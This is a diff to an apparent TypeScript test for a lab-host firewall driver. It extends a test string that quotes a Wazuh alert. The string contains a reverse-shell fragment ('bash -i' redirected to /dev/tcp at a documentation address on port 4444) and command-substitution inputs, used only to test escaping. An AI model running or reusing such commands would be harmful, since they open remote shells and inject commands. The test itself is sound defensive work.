@@ -288,7 +288,7 @@ describe('driver on the lab host', function () {
   });
 
   it('round-trips status through the host, surviving a controller restart', async () => {
-    const reason = 'Wazuh 100210: "bash -i" >& /dev/tcp/203.0.113.66/4444; $(id) `x` ü';
+    const reason = 'Wazuh 100210: "bash -i" >& /dev/tcp/203.0.113.66/4444; $(id) `x` ü\nfull_log: type=EXECVE\targc=3';
     const exceptions = [
       { direction: 'in' as const, proto: 'tcp' as const, addr: '198.18.0.0/16', port: '20-30', comment: 'jump hosts' },
       { direction: 'in' as const, proto: 'tcp' as const, addr: '198.18.0.0/24', port: '25-40' },
